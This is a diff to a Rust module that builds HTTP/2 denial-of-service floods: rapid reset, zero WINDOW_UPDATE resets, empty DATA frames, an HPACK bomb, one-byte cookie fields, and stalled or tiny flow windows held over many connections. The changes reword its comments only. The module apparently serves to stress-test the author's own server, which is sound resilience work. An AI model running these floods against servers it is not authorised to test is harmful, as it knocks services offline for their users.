@@ -1,4 +1,4 @@
-//! What clients of HTTP/2 do to servers, by prior knowledge: each attack as frames that come again and again.
+//! Attacks of HTTP/2 clients, with prior knowledge: each is a sequence of frames sent over and over.
 
 use super::{
     Target, Until,
@@ -20,7 +20,7 @@ const END_HEADERS: u8 = 4;
 
 /// Connections of each attack.
 const CONNECTIONS: usize = 32;
-/// Streams of a script: far more than a server lets anybody open and give up.
+/// Streams of a script: far more than a server lets a client open and reset.
 const STREAMS: u32 = 5000;
 
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
@@ -28,7 +28,7 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
 }
 
-/// A field that is not entered in a table.
+/// Encodes a field that is not entered in the HPACK table.
 fn field(name: &str, value: &str) -> Vec<u8> {
     let length = |text: &str| u8::try_from(text.len()).expect("below 127");
     [&[0, length(name)][..], name.as_bytes(), &[length(value)], value.as_bytes()].concat()
@@ -39,12 +39,12 @@ fn ask(method: &str, path: &str, host: &str) -> Vec<u8> {
     [&field(":method", method)[..], &scheme, &field(":path", path), &field(":authority", host)].concat()
 }
 
-/// The numbers of a client's streams.
+/// Iterates over the stream ids of a client.
 fn streams() -> impl Iterator<Item = u32> {
     (0..STREAMS).map(|number| 2 * number + 1)
 }
 
-/// The beginning of a connection, with SETTINGS (identifier and value, each).
+/// Returns the connection preface with SETTINGS (pairs of identifier and value).
 fn greeting(settings: &[(u16, u32)]) -> Vec<u8> {
     let payload: Vec<u8> = settings
         .iter()
@@ -53,7 +53,7 @@ fn greeting(settings: &[(u16, u32)]) -> Vec<u8> {
     [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, &payload)[..]].concat()
 }
 
-/// Holds connections that begin so, and go on so without an end.
+/// Holds connections that send `first` once and `again` without an end.
 fn flood(target: &Target, until: &Until, first: &[u8], again: &[u8]) -> Option<Tally> {
     Some(hold(target.cache?, CONNECTIONS, until, |member| {
         member.pump_behind(first, again)?;
@@ -76,7 +76,7 @@ pub(super) fn rapid_reset(target: &Target, until: &Until) -> Option<Tally> {
 
 pub(super) fn made_us_reset(target: &Target, until: &Until) -> Option<Tally> {
     let request = ask("GET", "/about", &host(target)?);
-    // A window that opens by nothing is the client's fault, and the stream's end (RFC 9113 §6.9).
+    // A WINDOW_UPDATE of 0 is the client's error, and ends the stream (RFC 9113 §6.9).
     let all = |stream| {
         let wrong = frame(WINDOW_UPDATE, 0, stream, &[0; 4]);
         [frame(HEADERS, END_STREAM | END_HEADERS, stream, &request), wrong].concat()
@@ -108,7 +108,8 @@ pub(super) fn empty_frames(target: &Target, until: &Until) -> Option<Tally> {
     flood(target, until, &first, &frame(DATA, 0, 1, &[]).repeat(1000))
 }
 
-/// One entry of 4,000 bytes in the table, and a byte for each reference to it; windows of nothing keep what comes of it.
+/// HPACK bomb: one entry of 4,000 bytes in the table and a byte for each reference to it. Windows of 0 keep
+/// the answers from leaving.
 pub(super) fn bomb(target: &Target, until: &Until) -> Option<Tally> {
     let entry = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'v'; 4000]].concat();
     let block = [ask("GET", "/about", &host(target)?), entry, vec![0xbe; 900]].concat();
@@ -116,7 +117,7 @@ pub(super) fn bomb(target: &Target, until: &Until) -> Option<Tally> {
     flood(target, until, &greeting(&[(4, 0)]), &streams().take(200).flat_map(all).collect::<Vec<_>>())
 }
 
-/// Crumbs of a cookie, a byte each.
+/// A cookie in thousands of fields of one byte each.
 pub(super) fn crumbs(target: &Target, until: &Until) -> Option<Tally> {
     let crumb = [&[0x40, 6][..], b"cookie", &[1, b'a']].concat();
     let block = [ask("GET", "/about", &host(target)?), crumb, vec![0xbe; 8000]].concat();
@@ -124,7 +125,7 @@ pub(super) fn crumbs(target: &Target, until: &Until) -> Option<Tally> {
     flood(target, until, &greeting(&[(4, 0)]), &streams().take(200).flat_map(all).collect::<Vec<_>>())
 }
 
-/// A hundred answers for each connection, none of which it lets come.
+/// A hundred answers for each connection, with windows of 0 so that none can be sent.
 pub(super) fn stalled_windows(target: &Target, until: &Until) -> Option<Tally> {
     let request = ask("GET", "/about", &host(target)?);
     let asked =
@@ -136,7 +137,7 @@ pub(super) fn stalled_windows(target: &Target, until: &Until) -> Option<Tally> {
     }))
 }
 
-/// The same, a byte at a time.
+/// A hundred answers for each connection, sent a byte at a time because of tiny windows.
 pub(super) fn tiny_windows(target: &Target, until: &Until) -> Option<Tally> {
     let request = ask("GET", "/about", &host(target)?);
     let numbers = || streams().take(100);
@@ -146,7 +147,7 @@ pub(super) fn tiny_windows(target: &Target, until: &Until) -> Option<Tally> {
     flood(target, until, &first, &opened.collect::<Vec<_>>())
 }
 
-/// A hundred pages on each of 101 connections once left no room for anybody else's misses.
+/// A hundred pages on each of 101 connections, which once left no room for other clients' misses.
 pub(super) fn slow_pages(target: &Target, until: &Until) -> Option<Tally> {
     let asked = |member: usize| {
         let ask = |stream| {
